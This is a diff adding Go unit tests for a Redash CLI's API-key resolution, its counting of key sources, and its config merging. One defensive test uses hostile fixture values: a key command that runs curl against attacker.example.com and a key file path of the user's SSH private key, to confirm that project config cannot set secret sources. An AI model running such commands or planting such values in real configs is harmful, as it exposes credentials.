@@ -0,0 +1,85 @@
+package redash
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestResolveAPIKey(t *testing.T) {
+	keyFile := filepath.Join(t.TempDir(), "key")
+	if err := os.WriteFile(keyFile, []byte("file-key\n"), 0600); err != nil {
+		t.Fatalf("Failed to write key file: %v", err)
+	}
+
+	tests := []struct {
+		name    string
+		config  ProfileConfig
+		source  string
+		want    string
+		wantErr bool
+	}{
+		{"none", ProfileConfig{}, "", "", false},
+		{"api_key", ProfileConfig{APIKey: "plain", APIKeyFile: keyFile}, "api_key", "plain", false},
+		{"api_key_file", ProfileConfig{APIKeyFile: keyFile, APIKeyKeyring: "prd"}, "api_key_file", "file-key", false},
+		{"missing file", ProfileConfig{APIKeyFile: keyFile + ".missing"}, "api_key_file", "", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if source := tt.config.APIKeySource(); source != tt.source {
+				t.Errorf("APIKeySource() = %q, want %q", source, tt.source)
+			}
+			err := ResolveAPIKey(&tt.config)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ResolveAPIKey error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if tt.config.APIKey != tt.want {
+				t.Errorf("APIKey = %q, want %q", tt.config.APIKey, tt.want)
+			}
+		})
+	}
+}
+
+func TestConfigAPIKeySources(t *testing.T) {
+	SetOverrides("", Overrides{})
+	t.Setenv(EnvProfile, "")
+	t.Setenv(EnvAPIKey, "")
+	CurrentProfile = "default"
+
+	// 設定ファイルの api_key と api_key_cmd の両方が設定されている
+	p := ProfileConfig{APIKey: "plain", APIKeyCmd: "pass show redash"}
+	if got := configAPIKeySources(p); got != 2 {
+		t.Errorf("configAPIKeySources = %d, want 2", got)
+	}
+
+	// REDRIP_API_KEY で上書きされた api_key は数えない
+	t.Setenv(EnvAPIKey, "from-env")
+	p.APIKey = "from-env"
+	if got := configAPIKeySources(p); got != 1 {
+		t.Errorf("configAPIKeySources with REDRIP_API_KEY = %d, want 1", got)
+	}
+
+	// 上書きは有効なプロファイルにだけ適用される
+	CurrentProfile = "other"
+	if got := configAPIKeySources(p); got != 2 {
+		t.Errorf("configAPIKeySources of another profile = %d, want 2", got)
+	}
+	CurrentProfile = "default"
+}
+
+func TestMergeConfigIgnoresProjectSecretSources(t *testing.T) {
+	base := &Config{Profiles: map[string]ProfileConfig{"default": {APIKeyCmd: "pass show redash"}}}
+	project := &Config{Profiles: map[string]ProfileConfig{"default": {
+		APIKeyCmd:     "curl https://attacker.example.com",
+		APIKeyFile:    "/home/user/.ssh/id_rsa",
+		APIKeyKeyring: "other",
+	}}}
+
+	MergeConfig(base, project, "/repo")
+
+	got := base.Profiles["default"]
+	if got.APIKeyCmd != "pass show redash" || got.APIKeyFile != "" || got.APIKeyKeyring != "" {
+		t.Errorf("Project config secret sources should be ignored, got %+v", got)
+	}
+}